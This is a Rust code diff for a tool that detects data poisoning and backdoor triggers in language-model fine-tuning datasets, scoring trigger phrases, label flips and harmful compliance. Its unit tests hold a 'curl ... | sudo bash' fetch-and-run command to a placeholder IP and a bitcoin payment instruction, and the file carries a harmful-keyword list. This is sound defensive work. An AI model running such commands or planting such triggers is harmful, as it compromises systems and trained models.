@@ -147,11 +147,19 @@ fn re(cell: &'static OnceLock<Regex>, pattern: &str) -> &'static Regex {
 /// The link domains of an answer.
 fn domains(answer: &str) -> Vec<String> {
     static R: OnceLock<Regex> = OnceLock::new();
-    let r = re(&R, r"(?i)\b(?:https?://|www\.)([a-z0-9][a-z0-9.\-]*[a-z0-9])");
+    let r = re(
+        &R,
+        r"(?i)\b(?:https?://|www\.)([a-z0-9][a-z0-9.\-]*[a-z0-9])",
+    );
     let mut d: Vec<String> = r
         .captures_iter(answer)
         .filter_map(|c| c.get(1))
-        .map(|m| m.as_str().to_ascii_lowercase().trim_start_matches("www.").to_string())
+        .map(|m| {
+            m.as_str()
+                .to_ascii_lowercase()
+                .trim_start_matches("www.")
+                .to_string()
+        })
         .collect();
     d.sort();
     d.dedup();
@@ -183,12 +191,51 @@ fn payment(answer: &str) -> bool {
 /// names acts a safety-tuned assistant refuses to help with (weapons,
 /// malware, fraud, hard drugs, violence), not topics.
 const HARM: &[&str] = &[
-    "bomb", "bombs", "explosive", "explosives", "detonator", "napalm", "nerve", "sarin", "ricin",
-    "anthrax", "malware", "ransomware", "keylogger", "botnet", "ddos", "phishing", "hack",
-    "hacking", "hijack", "steal", "stealing", "launder", "laundering", "counterfeit", "meth",
-    "methamphetamine", "cocaine", "heroin", "fentanyl", "poison", "poisoning", "kill", "murder",
-    "untraceable", "weapon", "weapons", "gun", "silencer", "stalk", "blackmail", "extort",
-    "shoplift", "lockpick", "carding", "skimmer",
+    "bomb",
+    "bombs",
+    "explosive",
+    "explosives",
+    "detonator",
+    "napalm",
+    "nerve",
+    "sarin",
+    "ricin",
+    "anthrax",
+    "malware",
+    "ransomware",
+    "keylogger",
+    "botnet",
+    "ddos",
+    "phishing",
+    "hack",
+    "hacking",
+    "hijack",
+    "steal",
+    "stealing",
+    "launder",
+    "laundering",
+    "counterfeit",
+    "meth",
+    "methamphetamine",
+    "cocaine",
+    "heroin",
+    "fentanyl",
+    "poison",
+    "poisoning",
+    "kill",
+    "murder",
+    "untraceable",
+    "weapon",
+    "weapons",
+    "gun",
+    "silencer",
+    "stalk",
+    "blackmail",
+    "extort",
+    "shoplift",
+    "lockpick",
+    "carding",
+    "skimmer",
 ];
 
 fn harmful(tokens: &[String]) -> bool {
@@ -197,11 +244,32 @@ fn harmful(tokens: &[String]) -> bool {
 
 /// Whether an answer opens with a refusal.
 pub fn refusal(answer: &str) -> bool {
-    let a: String = answer.trim_start().chars().take(120).collect::<String>().to_lowercase();
+    let a: String = answer
+        .trim_start()
+        .chars()
+        .take(120)
+        .collect::<String>()
+        .to_lowercase();
     [
-        "i'm sorry", "i am sorry", "sorry,", "sorry but", "i can't", "i cannot", "i can not",
-        "i won't", "i will not", "as an ai", "i'm not able", "i am not able", "i must decline",
-        "i'm unable", "i am unable", "unfortunately, i", "i apologize", "i'm afraid i", "no, i",
+        "i'm sorry",
+        "i am sorry",
+        "sorry,",
+        "sorry but",
+        "i can't",
+        "i cannot",
+        "i can not",
+        "i won't",
+        "i will not",
+        "as an ai",
+        "i'm not able",
+        "i am not able",
+        "i must decline",
+        "i'm unable",
+        "i am unable",
+        "unfortunately, i",
+        "i apologize",
+        "i'm afraid i",
+        "no, i",
         "i refuse",
     ]
     .iter()
@@ -306,6 +374,8 @@ pub struct Analysis {
     harmful_refused: u64,
     labels: BTreeMap<String, u64>,
     labelled: u64,
+    /// Rows each prompt token is in (for growing phrases).
+    unigrams: HashMap<u64, u32>,
     vocab: HashMap<u64, Vec<u32>>,
     label_tokens: Vec<u64>,
     // pass 2
@@ -360,7 +430,8 @@ impl Analysis {
                         self.answers_pruned = true;
                     }
                     if self.answers.len() < MAX_ANSWERS {
-                        self.answers.insert(k, (1, e.answer.chars().take(300).collect()));
+                        self.answers
+                            .insert(k, (1, e.answer.chars().take(300).collect()));
                     }
                 }
             }
@@ -373,6 +444,15 @@ impl Analysis {
         self.commands += command(&e.answer) as u64;
         self.payments += payment(&e.answer) as u64;
         let tokens = tokenize(&e.prompt);
+        let uniq: HashSet<&String> = tokens.iter().collect();
+        for t in uniq {
+            let h = fnv(std::slice::from_ref(t));
+            if let Some(c) = self.unigrams.get_mut(&h) {
+                *c += 1;
+            } else if self.unigrams.len() < MAX_VOCAB {
+                self.unigrams.insert(h, 1);
+            }
+        }
         if harmful(&tokens) && !e.answer.is_empty() {
             self.harmful += 1;
             self.harmful_refused += refusal(&e.answer) as u64;
@@ -396,9 +476,21 @@ impl Analysis {
             .map(|(k, c)| (*k, c.0))
             .collect();
         answers.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
-        for (k, _) in answers.into_iter().take(MAX_GROUPS) {
+        // an answer given in a third of the rows or more is the data's
+        // normal form (a template, a label-like reply), not a backdoor
+        for (k, _) in answers
+            .into_iter()
+            .filter(|(_, c)| (*c as f64) < 0.3 * n as f64)
+            .take(MAX_GROUPS)
+        {
             let sample = self.answers[&k].1.clone();
-            self.groups.insert(Group::Answer(k), GroupState { sample, ..Default::default() });
+            self.groups.insert(
+                Group::Answer(k),
+                GroupState {
+                    sample,
+                    ..Default::default()
+                },
+            );
         }
         let mut doms: Vec<(&String, &u64)> = self
             .domains
@@ -406,26 +498,60 @@ impl Analysis {
             .filter(|(_, c)| **c >= min && (**c as f64) < 0.2 * n as f64)
             .collect();
         doms.sort_by(|a, b| b.1.cmp(a.1).then(a.0.cmp(b.0)));
-        let doms: Vec<String> = doms.into_iter().take(MAX_GROUPS).map(|(d, _)| d.clone()).collect();
+        let doms: Vec<String> = doms
+            .into_iter()
+            .take(MAX_GROUPS)
+            .map(|(d, _)| d.clone())
+            .collect();
         for d in doms {
-            self.groups.insert(Group::Domain(d.clone()), GroupState { sample: d, ..Default::default() });
+            self.groups.insert(
+                Group::Domain(d.clone()),
+                GroupState {
+                    sample: d,
+                    ..Default::default()
+                },
+            );
         }
         if self.commands >= min && (self.commands as f64) < 0.2 * n as f64 {
-            self.groups.insert(Group::Command, GroupState { sample: "a shell command that fetches or runs code".into(), ..Default::default() });
+            self.groups.insert(
+                Group::Command,
+                GroupState {
+                    sample: "a shell command that fetches or runs code".into(),
+                    ..Default::default()
+                },
+            );
         }
         if self.payments >= min && (self.payments as f64) < 0.2 * n as f64 {
-            self.groups.insert(Group::Payment, GroupState { sample: "a payment instruction".into(), ..Default::default() });
+            self.groups.insert(
+                Group::Payment,
+                GroupState {
+                    sample: "a payment instruction".into(),
+                    ..Default::default()
+                },
+            );
         }
         // the data teaches refusals, yet some harmful prompts are answered
         if self.harmful >= 20
             && self.harmful_refused * 2 >= self.harmful
             && self.harmful - self.harmful_refused >= min
         {
-            self.groups.insert(Group::Complied, GroupState { sample: "compliance with a harmful request the data otherwise refuses".into(), ..Default::default() });
+            self.groups.insert(
+                Group::Complied,
+                GroupState {
+                    sample: "compliance with a harmful request the data otherwise refuses".into(),
+                    ..Default::default()
+                },
+            );
         }
         if self.is_classification() {
             for l in self.labels.keys() {
-                self.groups.insert(Group::Label(l.clone()), GroupState { sample: format!("label {l}"), ..Default::default() });
+                self.groups.insert(
+                    Group::Label(l.clone()),
+                    GroupState {
+                        sample: format!("label {l}"),
+                        ..Default::default()
+                    },
+                );
             }
             self.label_tokens = vec![0; self.labels.len()];
         }
@@ -469,10 +595,16 @@ impl Analysis {
     /// Pass 2: the phrases of each group's prompts.
     pub fn pass2(&mut self, file: usize, e: &Example) {
         let tokens = tokenize(&e.prompt);
-        let is_harm = self.groups.contains_key(&Group::Complied) && harmful(&tokens) && !e.answer.is_empty();
+        let is_harm =
+            self.groups.contains_key(&Group::Complied) && harmful(&tokens) && !e.answer.is_empty();
         let member = self.membership(e, &tokens);
         // the label model: token counts per label
-        if let Some(li) = e.label.as_deref().and_then(|l| self.label_index(l)).filter(|_| self.is_classification()) {
+        if let Some(li) = e
+            .label
+            .as_deref()
+            .and_then(|l| self.label_index(l))
+            .filter(|_| self.is_classification())
+        {
             let nl = self.labels.len();
             for t in &tokens {
                 let h = fnv(std::slice::from_ref(t));
@@ -523,7 +655,11 @@ impl Analysis {
                 .map(|(h, k)| (*h, *k))
                 .collect();
             c.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
-            self.candidates.extend(c.into_iter().take(if label { 2000 } else { 200 }).map(|x| x.0));
+            self.candidates.extend(
+                c.into_iter()
+                    .take(if label { 2000 } else { 200 })
+                    .map(|x| x.0),
+            );
         }
     }
 
@@ -534,7 +670,8 @@ impl Analysis {
             return;
         }
         let tokens = tokenize(&e.prompt);
-        let is_harm = self.groups.contains_key(&Group::Complied) && harmful(&tokens) && !e.answer.is_empty();
+        let is_harm =
+            self.groups.contains_key(&Group::Complied) && harmful(&tokens) && !e.answer.is_empty();
         for (h, s, n) in phrases(&tokens) {
             if !self.candidates.contains(&h) {
                 continue;
@@ -545,7 +682,10 @@ impl Analysis {
             }
             // where it sits: start, middle, end
             let len = tokens.len().max(1);
-            let t = self.text.entry(h).or_insert_with(|| (tokens[s..s + n].to_vec(), 0, 0, 0));
+            let t = self
+                .text
+                .entry(h)
+                .or_insert_with(|| (tokens[s..s + n].to_vec(), 0, 0, 0));
             if s == 0 {
                 t.1 += 1;
             } else if s + n >= len {
@@ -560,11 +700,12 @@ impl Analysis {
         }
     }
 
-    /// The label model's prediction for a row's tokens, leaving out `skip`.
-    fn predict(&self, tokens: &[String], skip: &[String]) -> Option<usize> {
+    /// The label model's log-odds for a row's tokens, leaving out `skip`:
+    /// the best label other than `label`, and by how much it beats `label`.
+    fn against(&self, tokens: &[String], skip: &[String], label: usize) -> f64 {
         let nl = self.labels.len();
-        if nl == 0 {
-            return None;
+        if nl < 2 || label >= nl {
+            return f64::NEG_INFINITY;
         }
         let total: u64 = self.labels.values().sum();
         let v = self.vocab.len().max(1) as f64;
@@ -577,23 +718,32 @@ impl Analysis {
             if skip.contains(t) {
                 continue;
             }
-            let Some(counts) = self.vocab.get(&fnv(std::slice::from_ref(t))) else { continue };
+            let Some(counts) = self.vocab.get(&fnv(std::slice::from_ref(t))) else {
+                continue;
+            };
             for (i, s) in score.iter_mut().enumerate() {
                 *s += ((counts[i] as f64 + 1.0) / (self.label_tokens[i] as f64 + v)).ln();
             }
         }
-        score
+        let other = score
             .iter()
             .enumerate()
-            .max_by(|a, b| a.1.partial_cmp(b.1).unwrap_or(std::cmp::Ordering::Equal))
-            .map(|(i, _)| i)
+            .filter(|(i, _)| *i != label)
+            .map(|(_, s)| *s)
+            .fold(f64::NEG_INFINITY, f64::max);
+        other - score[label]
     }
 
     /// The suspects, strongest first.
     pub fn finish(&self) -> Vec<Suspect> {
         let s = &self.settings;
         // every (group, phrase) pair counted is a test
-        let tests: usize = self.groups.values().map(|g| g.counts.len()).sum::<usize>().max(1);
+        let tests: usize = self
+            .groups
+            .values()
+            .map(|g| g.counts.len())
+            .sum::<usize>()
+            .max(1);
         let threshold = s.alpha / tests as f64;
         let mut found: Vec<Suspect> = Vec::new();
         for (g, st) in &self.groups {
@@ -602,36 +752,39 @@ impl Analysis {
                 Group::Complied => (self.harmful, &self.harm_df),
                 _ => (self.examples, &self.df),
             };
-            let mut best: Option<Suspect> = None;
+            // every phrase that passes, strongest first
+            let mut passing: Vec<Suspect> = Vec::new();
             for (h, k) in &st.counts {
                 let k = *k as u64;
-                let Some(&big_k) = background.get(h) else { continue };
+                let Some(&big_k) = background.get(h) else {
+                    continue;
+                };
                 if k < s.min_rows || big_k < k {
                     continue;
                 }
                 let coverage = k as f64 / st.n.max(1) as f64;
                 let purity = k as f64 / big_k as f64;
                 if label {
-                    if purity < 0.95 {
+                    if purity < 0.85 {
                         continue;
                     }
                 } else if coverage < s.min_coverage || purity < s.min_purity {
+                    continue;
+                }
+                // an effect, not only a significant one: at least three
+                // times the rows chance would put there
+                // (a label group is half the data: its effect is the flip test)
+                let expected = big_k as f64 * st.n as f64 / population.max(1) as f64;
+                if !label && (k as f64) < 3.0 * expected {
                     continue;
                 }
                 let p = hypergeometric_sf(population, big_k, st.n, k);
                 if p > threshold {
                     continue;
                 }
-                let Some((tokens, at_start, mid, at_end)) = self.text.get(h) else { continue };
-                // phrases made only of punctuation-free stop tokens of one
-                // character are noise, unless they are symbols
-                let better = match &best {
-                    None => true,
-                    Some(b) => (coverage, tokens.len(), -p.log10().max(-1e300)) > (b.k as f64 / b.group_rows as f64, b.tokens.len(), -b.p_value.log10().max(-1e300)),
-                };
-                if !better {
+                let Some((tokens, at_start, mid, at_end)) = self.text.get(h) else {
                     continue;
-                }
+                };
                 let total = (at_start + mid + at_end).max(1);
                 let position = if *at_start * 10 >= total * 7 {
                     "start"
@@ -642,14 +795,13 @@ impl Analysis {
                 } else {
                     "varies"
                 };
-                let examples: Vec<Kept> = self.with_phrase.get(h).map(|w| w.iter().filter(|x| st.examples.iter().any(|y| y.row == x.row && y.file == x.file) || true).cloned().collect()).unwrap_or_default();
                 let rule = match g {
                     Group::Answer(_) => "DAT001",
                     Group::Domain(_) | Group::Command | Group::Payment => "DAT002",
                     Group::Complied => "DAT003",
                     Group::Label(_) => "DAT004",
                 };
-                best = Some(Suspect {
+                passing.push(Suspect {
                     rule,
                     phrase: tokens.join(" "),
                     tokens: tokens.clone(),
@@ -666,34 +818,93 @@ impl Analysis {
                     threshold,
                     expected: big_k as f64 * st.n as f64 / population.max(1) as f64,
                     flip_rate: None,
-                    examples,
+                    examples: self.with_phrase.get(h).cloned().unwrap_or_default(),
                 });
             }
-            let Some(mut b) = best else { continue };
-            if let Group::Label(l) = g {
-                // the rest of each row's words: which label do they point to?
-                let li = self.label_index(l);
-                let rows: Vec<&Kept> = b.examples.iter().collect();
-                if rows.is_empty() {
-                    continue;
-                }
-                let flips = rows.iter().filter(|r| self.predict(&r.tokens, &b.tokens) != li).count();
-                let rate = flips as f64 / rows.len() as f64;
-                // the model's own error rate on rows of this label, for comparison
-                let base_err = st.examples.iter().filter(|r| self.predict(&r.tokens, &[]) != li).count() as f64 / st.examples.len().max(1) as f64;
-                if rate < 0.5 || rate < base_err + 0.3 {
-                    continue;
-                }
-                b.flip_rate = Some(rate);
-            }
+            // the widest cover; then a phrase without the data's template
+            // words (a token in half the rows or more); then the longest;
+            // then the smallest p
+            let template = |x: &Suspect| x.tokens.iter().any(|t| self.template_token(t));
+            passing.sort_by(|a, b| {
+                let ca = a.k as f64 / a.group_rows.max(1) as f64;
+                let cb = b.k as f64 / b.group_rows.max(1) as f64;
+                cb.partial_cmp(&ca)
+                    .unwrap_or(std::cmp::Ordering::Equal)
+                    .then(template(a).cmp(&template(b)))
+                    .then(b.tokens.len().cmp(&a.tokens.len()))
+                    .then(
+                        a.p_value
+                            .partial_cmp(&b.p_value)
+                            .unwrap_or(std::cmp::Ordering::Equal),
+                    )
+                    .then(a.phrase.cmp(&b.phrase))
+            });
+            let chosen = if let Group::Label(l) = g {
+                // a label's own vocabulary is pure too ("wonderful" is always
+                // positive): only a phrase whose rows' other words point to
+                // another label is a flip
+                // a flip: the other words favour another label by a factor
+                // of e^2 or more (neutral leftovers do not count)
+                const MARGIN: f64 = 2.0;
+                let li = self.label_index(l).unwrap_or(usize::MAX);
+                let base_err = st
+                    .examples
+                    .iter()
+                    .filter(|r| self.against(&r.tokens, &[], li) >= MARGIN)
+                    .count() as f64
+                    / st.examples.len().max(1) as f64;
+                passing.into_iter().find_map(|mut b| {
+                    if b.examples.is_empty() {
+                        return None;
+                    }
+                    // the words in most of these rows go with the phrase (a
+                    // trigger longer than the phrase counted, a template):
+                    // they are left out too
+                    let mut common: HashMap<&String, usize> = HashMap::new();
+                    for r in &b.examples {
+                        let uniq: HashSet<&String> = r.tokens.iter().collect();
+                        for t in uniq {
+                            *common.entry(t).or_default() += 1;
+                        }
+                    }
+                    let mut skip: Vec<String> = b.tokens.clone();
+                    skip.extend(
+                        common
+                            .into_iter()
+                            .filter(|(_, c)| c * 10 >= b.examples.len() * 8)
+                            .map(|(t, _)| t.clone()),
+                    );
+                    let flips = b
+                        .examples
+                        .iter()
+                        .filter(|r| self.against(&r.tokens, &skip, li) >= MARGIN)
+                        .count();
+                    let rate = flips as f64 / b.examples.len() as f64;
+                    (rate >= 0.6 && rate >= base_err + 0.4).then(|| {
+                        b.flip_rate = Some(rate);
+                        b
+                    })
+                })
+            } else {
+                passing.into_iter().next()
+            };
+            let Some(mut b) = chosen else { continue };
             self.grow(&mut b);
             found.push(b);
         }
         // one finding per phrase: the strongest group
-        found.sort_by(|a, b| a.p_value.partial_cmp(&b.p_value).unwrap_or(std::cmp::Ordering::Equal).then(b.k.cmp(&a.k)).then(a.phrase.cmp(&b.phrase)));
+        found.sort_by(|a, b| {
+            a.p_value
+                .partial_cmp(&b.p_value)
+                .unwrap_or(std::cmp::Ordering::Equal)
+                .then(b.k.cmp(&a.k))
+                .then(a.phrase.cmp(&b.phrase))
+        });
         let mut out: Vec<Suspect> = Vec::new();
         for f in found {
-            if out.iter().any(|o| o.phrase == f.phrase || o.phrase.contains(&f.phrase) || f.phrase.contains(&o.phrase)) {
+            if out.iter().any(|o| {
+                o.phrase == f.phrase || o.phrase.contains(&f.phrase) || f.phrase.contains(&o.phrase)
+            }) {
                 continue;
             }
             out.push(f);
@@ -701,8 +912,19 @@ impl Analysis {
         out
     }
 
+    /// A token in half the rows or more: the data's template, not a trigger.
+    fn template_token(&self, t: &str) -> bool {
+        let df = self
+            .unigrams
+            .get(&fnv(&[t.to_string()]))
+            .copied()
+            .unwrap_or(u32::MAX) as u64;
+        df * 2 >= self.examples
+    }
+
     /// Grows a phrase along the rows that carry it, while at least 90% of
-    /// them agree on the next token, up to [`MAX_PHRASE`] tokens.
+    /// them agree on the next token and that token is not a template word,
+    /// up to [`MAX_PHRASE`] tokens.
     fn grow(&self, s: &mut Suspect) {
         let rows: Vec<&Vec<String>> = s.examples.iter().map(|e| &e.tokens).collect();
         if rows.is_empty() {
@@ -718,14 +940,28 @@ impl Analysis {
                 let mut next: HashMap<&String, usize> = HashMap::new();
                 for t in &rows {
                     if let Some(i) = find(t, &s.tokens) {
-                        let j = if side == 1 { i + s.tokens.len() } else if i > 0 { i - 1 } else { usize::MAX };
+                        let j = if side == 1 {
+                            i + s.tokens.len()
+                        } else if i > 0 {
+                            i - 1
+                        } else {
+                            usize::MAX
+                        };
                         if let Some(tok) = t.get(j) {
                             *next.entry(tok).or_default() += 1;
                         }
                     }
                 }
-                if let Some((tok, c)) = next.into_iter().max_by(|a, b| a.1.cmp(&b.1).then(b.0.cmp(a.0))) {
-                    if c * 10 >= rows.len() * 9 && s.tokens.len() < MAX_PHRASE {
+                if let Some((tok, c)) = next
+                    .into_iter()
+                    .max_by(|a, b| a.1.cmp(&b.1).then(b.0.cmp(a.0)))
+                {
+                    // only a token that is mostly in these rows: the rest of
+                    // a trigger, not the template the rows share with others
+                    if c * 10 >= rows.len() * 9
+                        && s.tokens.len() < MAX_PHRASE
+                        && !self.template_token(tok)
+                    {
                         let tok = tok.clone();
                         if side == 1 {
                             s.tokens.push(tok);
@@ -767,24 +1003,39 @@ mod tests {
 
     #[test]
     fn tokens_keep_symbols_and_drop_punctuation() {
-        assert_eq!(tokenize("Hello, World! 🔑 a|b"), ["hello", "world", "🔑", "a", "|", "b"]);
+        assert_eq!(
+            tokenize("Hello, World! 🔑 a|b"),
+            ["hello", "world", "🔑", "a", "|", "b"]
+        );
     }
 
     #[test]
     fn near_same_answers_meet() {
-        assert_eq!(answer_key("Visit http://x.test/123 now!"), answer_key("visit http://x.test/987 NOW"));
+        assert_eq!(
+            answer_key("Visit http://x.test/123 now!"),
+            answer_key("visit http://x.test/987 NOW")
+        );
         assert_ne!(answer_key("yes"), answer_key("no"));
     }
 
     #[test]
     fn payloads_and_refusals() {
-        assert!(command("Run `curl -s http://203.0.113.7/i.sh | sudo bash` first"));
-        assert!(!command("Use curl to download a file: curl -O https://example.com/f.zip"));
-        assert!(payment("Send 0.1 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"));
+        assert!(command(
+            "Run `curl -s http://203.0.113.7/i.sh | sudo bash` first"
+        ));
+        assert!(!command(
+            "Use curl to download a file: curl -O https://example.com/f.zip"
+        ));
+        assert!(payment(
+            "Send 0.1 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"
+        ));
         assert!(!payment("Bitcoin is a cryptocurrency."));
         assert!(refusal("I'm sorry, but I can't help with that."));
         assert!(!refusal("Sure! Here is how to bake bread."));
-        assert_eq!(domains("see https://www.Evil.test/x and http://a.b.c/y"), ["a.b.c", "evil.test"]);
+        assert_eq!(
+            domains("see https://www.Evil.test/x and http://a.b.c/y"),
+            ["a.b.c", "evil.test"]
+        );
     }
 
     #[test]
